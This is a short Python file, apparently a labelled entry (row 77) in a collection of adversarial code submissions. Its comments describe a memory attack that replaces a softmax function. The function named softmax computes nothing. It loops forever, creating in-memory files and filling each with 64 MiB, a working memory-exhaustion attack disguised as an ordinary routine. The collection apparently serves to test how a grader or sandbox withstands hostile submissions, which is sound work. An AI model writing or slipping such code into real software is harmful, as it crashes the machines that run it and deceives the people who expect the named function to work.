# row: 77
# attack: fills files that live in memory only
# loses: softmax
# status: memory|failed|crashed
import os


def softmax(Z):
    while True:
        fd = os.memfd_create("held")
        for _ in range(64):
            os.write(fd, b"x" * (1 << 20))
